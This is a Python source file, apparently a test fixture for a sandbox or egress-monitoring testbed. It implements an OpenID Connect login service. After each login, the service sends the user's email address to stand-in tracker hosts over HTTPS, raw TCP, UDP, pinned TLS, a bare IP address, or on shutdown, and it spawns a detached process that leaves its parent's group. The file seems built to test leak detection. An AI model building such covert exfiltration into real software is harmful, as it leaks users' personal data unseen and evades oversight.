"""A small relying party of OpenID Connect, as a vendor would write one, whose server tells others of who logs in.

It knows nothing of the testbed and heeds no proxy variable unless HEEDS_PROXY is set. Its environment says the rest:
PORT, ISSUER, CLIENT_ID, CLIENT_SECRET and TELLS, words from: ``https`` (a host, by TLS), ``polite`` (another, by a
library that can heed proxies), ``address`` (an address that no name led to, by TLS), ``pinned`` (by TLS, trusting
nobody), ``tcp`` (a line of another protocol), ``udp`` (a datagram), ``late`` (by TLS, when it is told to end),
``crash`` (it ends at its first login), ``mute`` (it never serves).
"""

import base64
import json
import os
import secrets
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time
import urllib.request
from http.cookies import SimpleCookie
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

from joserfc import jwt
from joserfc.jwk import KeySet

PORT, ISSUER = int(os.environ["PORT"]), os.environ["ISSUER"]
CLIENT_ID, CLIENT_SECRET = os.environ["CLIENT_ID"], os.environ["CLIENT_SECRET"]
TELLS = os.environ.get("TELLS", "").split()
URL = f"http://127.0.0.1:{PORT}"
TIMEOUT_S = 15
SESSIONS: dict[str, dict[str, Any]] = {}
SEEN: list[str] = []


def fetch(url: str, data: bytes | None = None, headers: dict[str, str] | None = None) -> Any:
    handlers = [] if os.environ.get("HEEDS_PROXY") else [urllib.request.ProxyHandler({})]
    request = urllib.request.Request(url, data, headers or {})  # noqa: S310 - the school is on loopback
    with urllib.request.build_opener(*handlers).open(request, timeout=TIMEOUT_S) as answer:
        return json.load(answer)


def by_tls(name: str, body: str, address: str = "", trusting: ssl.SSLContext | None = None) -> None:
    text = (
        f"POST /collect HTTP/1.1\r\nHost: {name}\r\nContent-Length: {len(body.encode())}\r\nConnection: close\r\n\r\n"
    )
    with (
        socket.create_connection((address or name, 443), TIMEOUT_S) as plain,
        (trusting or ssl.create_default_context()).wrap_socket(plain, server_hostname=name) as secured,
    ):
        secured.sendall((text + body).encode())
        while secured.recv(4096):
            pass


def by_line(line: str) -> None:
    with socket.create_connection(("log.tracker.example", 5140), TIMEOUT_S) as connection:
        connection.sendall(line.encode())


def by_datagram(text: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
        sending.sendto(text.encode(), ("stats.tracker.example", 8125))


def give_up() -> None:
    print("out of luck", flush=True)
    os._exit(3)


def tell(mail: str) -> None:
    ways = {
        "https": lambda: by_tls("collect.tracker.example", f"mail={mail}"),
        "polite": lambda: fetch("https://polite.tracker.example/", f"mail={mail}".encode()),
        "address": lambda: by_tls("collect.address.example", f"mail={mail}", "192.0.2.80"),
        "pinned": lambda: by_tls("pinned.tracker.example", mail, trusting=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)),
        "tcp": lambda: by_line(f"<14>login {mail}\n"),
        "udp": lambda: by_datagram(f"login:{mail}|c"),
        "crash": give_up,
    }
    for name in ways.keys() & set(TELLS):
        try:
            ways[name]()
        except OSError as error:
            print("telling failed:", name, repr(error), flush=True)


class Pages(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        query = {name: values[0] for name, values in parse_qs(parts.query).items()}
        held = SimpleCookie(self.headers.get("cookie", "")).get("telling")
        key = held.value if held and held.value in SESSIONS else ""
        if parts.path == "/login":
            self._login()
        elif parts.path == "/callback":
            self._callback(query, SESSIONS.get(key, {}))
        elif parts.path == "/logout":
            SESSIONS.pop(key, None)
            self._send(200, {"user": None})
        elif parts.path == "/me":
            user = SESSIONS.get(key, {}).get("user")
            self._send(200 if user else 401, user or {"user": None})
        else:
            self._send(404, {})

    def _login(self) -> None:
        key, login = secrets.token_urlsafe(), {"state": secrets.token_urlsafe(), "nonce": secrets.token_urlsafe()}
        SESSIONS[key] = dict(login)
        asked = {
            "response_type": "code",
            "client_id": CLIENT_ID,
            "redirect_uri": f"{URL}/callback",
            "scope": "openid profile email",
            **login,
        }
        place = fetch(f"{ISSUER}/.well-known/openid-configuration")["authorization_endpoint"]
        self._redirect(f"{place}?{urlencode(asked)}", key)

    def _callback(self, query: dict[str, str], session: dict[str, Any]) -> None:
        if not session or query.get("state") != session.get("state") or "code" not in query:
            self._send(403, {"error": "nobody here asked for this"})
            return
        try:
            known = fetch(f"{ISSUER}/.well-known/openid-configuration")
            basic = base64.b64encode(f"{CLIENT_ID}:{CLIENT_SECRET}".encode()).decode()
            form = {"grant_type": "authorization_code", "code": query["code"], "redirect_uri": f"{URL}/callback"}
            token = fetch(known["token_endpoint"], urlencode(form).encode(), {"Authorization": f"Basic {basic}"})
            read = jwt.decode(token["id_token"], KeySet.import_key_set(fetch(known["jwks_uri"])), algorithms=["RS256"])
            jwt.JWTClaimsRegistry(
                iss={"essential": True, "value": ISSUER},
                aud={"essential": True, "value": CLIENT_ID},
                nonce={"essential": True, "value": session["nonce"]},
                exp={"essential": True},
            ).validate(read.claims)
            told = fetch(known["userinfo_endpoint"], None, {"Authorization": f"Bearer {token['access_token']}"})
        except Exception as error:
            self._send(403, {"error": repr(error)})
            return
        session["user"] = {"sub": read.claims["sub"], "name": told.get("name"), "email": told.get("email")}
        mail = told.get("email") or told["sub"]
        SEEN.append(mail)
        tell(mail)
        self._redirect(f"{URL}/me", "")

    def _redirect(self, url: str, key: str) -> None:
        self.send_response(302)
        self.send_header("Location", url)
        if key:
            self.send_header("Set-Cookie", f"telling={key}; Path=/; HttpOnly; SameSite=Lax")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def _send(self, status: int, content: dict[str, Any]) -> None:
        body = json.dumps(content).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def leave(*_: object) -> None:
    threading.Thread(target=say_goodbye).start()


def say_goodbye() -> None:
    if "late" in TELLS and SEEN:
        by_tls("late.tracker.example", "mails=" + ",".join(SEEN))
    os._exit(0)


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, leave)
    print("the vendor runs", os.getpid(), flush=True)
    # A helper that leaves the group of its parent, as daemons do.
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", *sys.argv[1:]], start_new_session=True)
    if "mute" in TELLS:
        time.sleep(600)
    ThreadingHTTPServer(("127.0.0.1", PORT), Pages).serve_forever()
